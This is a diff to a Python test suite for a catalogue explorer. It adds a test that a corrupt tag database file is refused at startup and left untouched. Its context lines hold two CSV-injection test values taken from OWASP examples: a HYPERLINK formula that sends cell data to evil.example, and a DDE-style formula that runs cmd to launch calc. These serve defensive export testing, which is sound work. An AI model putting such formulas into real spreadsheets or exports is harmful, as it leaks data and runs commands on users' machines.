@@ -520,6 +520,21 @@ def test_a_selection_with_text_fits_cannot_hold_is_a_client_error(tmp_path):
     assert status == 200 or (status == 422 and b"export CSV or VOTable" in body), (status, body)
 
 
+def test_a_tag_file_that_is_not_a_database_is_one_line_at_start(tmp_path):
+    """explore-tags.sqlite holding something else: refused when the explorer starts
+    (it answered 500 to every tag request), and the file is left as it was."""
+    from raregal.explore import build
+
+    from .run_folders import small_run
+
+    run = tmp_path / "run"
+    small_run(run)
+    (run / "explore-tags.sqlite").write_text("not a database " * 100)
+    with pytest.raises(InputError, match="explore-tags.sqlite: not a raregal tag database"):
+        build(run)
+    assert (run / "explore-tags.sqlite").read_text() == "not a database " * 100
+
+
 #: Cells a spreadsheet would run (OWASP's CSV injection examples) and an id that is a number.
 FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1, "click")'
 FORMULA_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
